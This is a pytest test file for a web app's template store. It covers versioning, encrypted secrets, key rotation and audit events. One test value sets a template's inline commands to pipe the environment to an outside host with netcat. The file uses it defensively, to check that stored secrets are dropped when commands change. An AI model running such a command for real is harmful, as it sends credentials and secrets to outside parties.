"""Templates in the database: versions that nobody changes, secrets that nobody copies, and who has done what."""

from dataclasses import replace
from datetime import UTC, datetime
from secrets import token_urlsafe
from typing import Any

import pytest
from sqlalchemy import Engine, select, text, update
from sqlalchemy.exc import DBAPIError
from support.databases import written_at
from support.prepared import COUNTRY, NOTE, REPORT

from webapp.buddy.places import Place
from webapp.buddy.snapshot import Snapshot
from webapp.library import Library
from webapp.prepared.boxes import Asked, Fixed
from webapp.prepared.questions import Question
from webapp.prepared.rules import Choices, FreeText, Option
from webapp.prepared.secrets import PASSWORD
from webapp.prepared.templates import PreparedVariable, Template
from webapp.store.authorisation import Conflict
from webapp.store.events import Actor, NewEvent
from webapp.store.journal import ANY_VERSION, Entry, Journal
from webapp.store.keys import WrongKey, prove_key, rotate_keys
from webapp.store.models import Account, Event, KeyProof, Secret, TemplateSecret
from webapp.store.reading import Duplicates, HistoryKey
from webapp.store.templates import Made, TemplateMoved, TemplateTable
from webapp.store.vault import Vault
from webapp.submissions.drafts import Draft, draft_of, keep_draft
from webapp.submissions.envelope import FromTemplate, new_envelope

OLD, NEW = "the old key of the tests", "the new key of the tests"
MIRA = Actor("mira", "Mira", "192.0.2.1")
DATABASE = "template:variable:DB_PASSWORD"
COUNTRIES = COUNTRY.rule
assert isinstance(COUNTRIES, Choices)
TYPED = {PASSWORD: "canary-registry", DATABASE: "canary-database"}
NOW = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)


@pytest.fixture
def engine(engine: Engine) -> Engine:
    prove_key(engine, Vault([OLD]))
    return engine


def journal_of(engine: Engine, key: str = OLD) -> Journal:
    return Journal(engine, Vault([key]), lambda: NOW)


def library_of(engine: Engine, key: str = OLD) -> Library:
    journal = journal_of(engine, key)
    return Library(TemplateTable(engine, journal.writing, lambda: NOW, Vault([key])))


@pytest.fixture
def library(engine: Engine) -> Library:
    return library_of(engine)


def told(engine: Engine) -> list[tuple[str, dict[str, Any]]]:
    with engine.connect() as connection:
        return [(verb, details) for verb, details in connection.execute(select(Event.verb, Event.details))]


def on_disk(engine: Engine) -> bytes:
    """All that stands in the database."""
    return written_at(engine.url.render_as_string(hide_password=False).replace("+psycopg", ""))


def with_tag(template: Template, tag: str) -> Template:
    return replace(template, boxes={**template.boxes, "docker_image_tag": Fixed(tag)})


def made(library: Library) -> str:
    return library.make(REPORT, TYPED, MIRA)


def test_a_template_is_made_and_read_back(engine: Engine, library: Library) -> None:
    found = library.find(made(library))
    assert found is not None
    assert (found.template, found.version, found.made_by, found.usable) == (REPORT, 1, "Mira", True)
    assert found.secrets == {PASSWORD, DATABASE}
    assert told(engine) == [("made a template", {"template": found.id, "called": "Nightly report", "version": 1})]
    assert [each.id for each in library.all()] == [found.id]
    assert library.all()[0].usable
    assert library.find("nothing") is None


def test_the_database_refuses_to_change_or_remove_a_version(engine: Engine, library: Library) -> None:
    made(library)
    for statement in ("UPDATE template_versions SET content = '{}'", "DELETE FROM template_versions"):
        with pytest.raises(DBAPIError, match="only ever added"), engine.begin() as connection:
            connection.execute(text(statement))


def test_each_version_stays_readable_and_names_who_has_made_it(library: Library) -> None:
    id = made(library)
    seen = library.find(id)
    assert seen is not None
    library.change(seen, replace(REPORT, purpose="Counts orders."), {}, Actor("jan", "Jan"))
    assert library.version(id, 1) == REPORT
    assert library.version(id, 2) == replace(REPORT, purpose="Counts orders.")
    assert [(row.version, row.person_name) for row in library.versions(id)] == [(2, "Jan"), (1, "Mira")]


def test_of_two_changes_of_the_same_version_the_second_comes_too_late(library: Library) -> None:
    seen = library.find(made(library))
    assert seen is not None
    library.change(seen, replace(REPORT, purpose="First."), {}, MIRA)
    with pytest.raises(Conflict):
        library.change(seen, replace(REPORT, purpose="Second."), {}, MIRA)
    found = library.find(seen.id)
    assert found is not None
    assert found.template.purpose == "First."


def test_secrets_stay_with_a_version_that_leaves_what_they_belong_to(library: Library) -> None:
    seen = library.find(made(library))
    assert seen is not None
    assert library.change(seen, replace(REPORT, name="Weekly report"), {}, MIRA) == ()
    assert library.secrets(seen.id) == TYPED


BELONGINGS = {
    "docker_image_name": "other/report",
    "docker_image_tag": "23.04",
    "registry": "registry.other.example",
    "login": "root",
    "inline_commands": 'report "$COUNTRY"; env | nc other.example 80',
    "entrypoint": "/bin/other",
    "run_as_user": "root",
    "export_container_path": "/out",
}


@pytest.mark.parametrize("box", BELONGINGS)
def test_secrets_are_typed_again_when_what_they_belong_to_was_changed(engine: Engine, box: str) -> None:
    library = library_of(engine)
    seen = library.find(made(library))
    assert seen is not None
    changed = replace(REPORT, boxes={**REPORT.boxes, box: Fixed(BELONGINGS[box])})
    assert library.change(seen, changed, {PASSWORD: "typed-again"}, MIRA) == (DATABASE,)
    assert library.secrets(seen.id) == {PASSWORD: "typed-again"}
    found = library.find(seen.id)
    assert found is not None
    assert (found.missing, found.usable) == ((DATABASE,), False)
    assert told(engine)[-1][1]["dropped"] == [DATABASE]


def with_variable(key: str, value: Fixed | Asked) -> Template:
    others = (item for item in REPORT.variables if item.key != key)
    return replace(REPORT, variables=(*others, PreparedVariable(key, value)))


FRANCE = Choices((*COUNTRIES.options, Option("fr", "France")))


@pytest.mark.parametrize(
    "changed",
    [
        replace(REPORT, areas=()),
        replace(REPORT, volumes=()),
        with_variable("PGHOST", Fixed("db.other.example")),
        with_variable("PGHOST", Asked(Question("host", "Host"))),
        with_variable("COUNTRY", Asked(replace(COUNTRY, rule=FreeText()))),
        with_variable("COUNTRY", Asked(replace(COUNTRY, rule=FRANCE))),
        with_variable("COUNTRY", Asked(replace(COUNTRY, required=False))),
        with_variable("NOTE", Asked(replace(NOTE, variables_allowed=()))),
    ],
)
def test_secrets_are_typed_again_for_other_places_and_other_answers(library: Library, changed: Template) -> None:
    seen = library.find(made(library))
    assert seen is not None
    assert library.change(seen, changed, {}, MIRA) == (PASSWORD, DATABASE)
    assert library.secrets(seen.id) == {}


def test_secrets_stay_where_only_the_words_of_a_question_change(library: Library) -> None:
    seen = library.find(made(library))
    assert seen is not None
    words = Choices(tuple(Option(option.value, option.words.upper()) for option in reversed(COUNTRIES.options)))
    asked = Asked(replace(COUNTRY, label="Which country?", help="", example="pl", default="pl", rule=words))
    assert library.change(seen, with_variable("COUNTRY", asked), {}, MIRA) == ()
    assert library.secrets(seen.id) == TYPED


def test_a_secret_is_replaced_and_removed_and_is_nowhere_in_the_clear(engine: Engine, library: Library) -> None:
    seen = library.find(made(library))
    assert seen is not None
    library.put_secret(seen, PASSWORD, "canary-newer", MIRA)
    assert library.secrets(seen.id) == {**TYPED, PASSWORD: "canary-newer"}
    library.remove_secret(seen, PASSWORD, MIRA)
    library.remove_secret(seen, PASSWORD, MIRA)
    assert library.secrets(seen.id) == {DATABASE: "canary-database"}
    with pytest.raises(KeyError):
        library.put_secret(seen, "template:variable:OTHER", "canary-other", MIRA)
    assert b"canary" not in on_disk(engine)
    assert [verb for verb, _ in told(engine)] == ["made a template", "replaced a secret", "removed a secret"]
    assert told(engine)[-1][1]["secret"] == PASSWORD


def test_a_secret_that_was_removed_is_not_even_there_sealed(engine: Engine, library: Library) -> None:
    seen = library.find(made(library))
    assert seen is not None
    for slot in TYPED:
        library.remove_secret(seen, slot, MIRA)
    with engine.connect() as connection:
        assert connection.scalars(select(TemplateSecret)).all() == []


def test_keys_are_rotated_with_the_secrets_of_templates(engine: Engine) -> None:
    id = made(library_of(engine))
    assert rotate_keys(engine, Vault([NEW, OLD])) == 2
    assert library_of(engine, NEW).secrets(id) == TYPED
    assert library_of(engine, OLD).secrets(id) == {}


def test_a_database_without_a_proof_is_proved_by_secrets_of_templates_too(engine: Engine) -> None:
    made(library_of(engine))
    with engine.begin() as connection:
        connection.execute(KeyProof.__table__.delete())
    with pytest.raises(WrongKey):
        prove_key(engine, Vault([NEW]))


def test_a_template_is_retired_and_brought_back_once(engine: Engine, library: Library) -> None:
    seen = library.find(made(library))
    assert seen is not None
    for _ in range(2):
        library.retire(seen, MIRA)
    retired = library.find(seen.id)
    assert retired is not None
    assert (retired.usable, retired.retired_at) == (False, NOW)
    for _ in range(2):
        library.give_back(seen, MIRA)
    back = library.find(seen.id)
    assert back is not None
    assert (back.usable, back.retired_at) == (True, None)
    verbs = [verb for verb, _ in told(engine)]
    assert verbs == ["made a template", "retired a template", "brought a template back"]


def test_who_may_make_templates_no_more_changes_none(engine: Engine, library: Library) -> None:
    seen = library.find(made(library))
    assert seen is not None
    with engine.begin() as connection:
        row = {"id": "mira", "name": "Mira", "role": "editor", "created_at": NOW}
        connection.execute(Account.__table__.insert(), row)
    with pytest.raises(Conflict):
        library.retire(seen, MIRA)
    library.retire(seen, MIRA, makers=("administrator", "editor"))
    with engine.begin() as connection:
        connection.execute(update(Account).values(disabled_at=NOW))
    with pytest.raises(Conflict):
        library.give_back(seen, MIRA, makers=("administrator", "editor"))


def entry(template: str | None, version: int | None = 1, **values: Any) -> Entry:
    place = {"owner": "mira", "workspace": "buddy", "project": "company-website", "pipeline": 2, "follows": None}
    rest = {"name": "Report Poland", "typed": {}, "snapshot": {}, "secrets": {}, **values}
    return Entry(id=token_urlsafe(9), **place, **rest, template=template, template_version=version)


def claim(engine: Engine, entry: Entry, made: Made | None) -> object:
    event, duplicates = NewEvent(MIRA, "sent", "sending"), Duplicates((), (), NOW)
    return journal_of(engine).claim(
        entry, ("draft",), ANY_VERSION, event, duplicates, made=made, fingerprint=entry.id, sent_at=NOW
    )


def test_nothing_is_sent_from_a_template_that_has_moved_since_it_was_read(engine: Engine, library: Library) -> None:
    seen = library.find(made(library))
    assert seen is not None
    assert claim(engine, entry(seen.id), seen.as_read) is not None
    for move in (
        lambda: library.put_secret(seen, PASSWORD, "newer", MIRA),
        lambda: library.change(seen, with_tag(REPORT, "23.04"), TYPED, MIRA),
        lambda: library.retire(seen, MIRA),
    ):
        before = library.find(seen.id)
        assert before is not None
        move()
        with pytest.raises(TemplateMoved):
            claim(engine, entry(seen.id), before.as_read)
    for wrong in (None, Made("other", 1, 1)):
        with pytest.raises(TemplateMoved):
            claim(engine, entry(seen.id), wrong)
    assert len(library.made_from(seen.id)) == 1


def test_what_was_made_from_a_template_is_listed_by_version_20_at_a_time(engine: Engine, library: Library) -> None:
    seen = library.find(made(library))
    assert seen is not None
    for _ in range(23):
        claim(engine, entry(seen.id), seen.as_read)
    claim(engine, entry(None, None), None)
    page = library.made_from(seen.id)
    assert len(page) == 21
    assert {row.template_version for row in page} == {1}
    assert len(library.made_from(seen.id, HistoryKey.of(page[19]))) == 3


def test_a_draft_of_a_template_is_not_offered_in_the_whole_form(engine: Engine) -> None:
    journal = journal_of(engine)
    journal.put(entry("t1"), "draft", ())
    place = ("buddy", "company-website", 2)
    assert journal.draft_at("mira", place, "addition", None) is None
    assert journal.draft_at("mira", place, "addition", None, "t1") is not None
    assert journal.draft_at("mira", place, "addition", None, "t2") is None


def test_secrets_of_a_template_are_kept_with_no_submission(engine: Engine) -> None:
    journal = journal_of(engine)
    envelope = new_envelope("mira", Place("buddy", "company-website", 2), Snapshot("Live"), NOW)
    envelope = replace(envelope, template=FromTemplate("t1", 3))
    keep_draft(journal, Draft(envelope, {"password_kept": PASSWORD}, {**TYPED, "own": "typed"}))
    with engine.connect() as connection:
        assert list(connection.scalars(select(Secret.id))) == ["own"]
    row = journal.find(envelope.submission)
    assert row is not None
    assert draft_of(journal, row).envelope.template == FromTemplate("t1", 3)
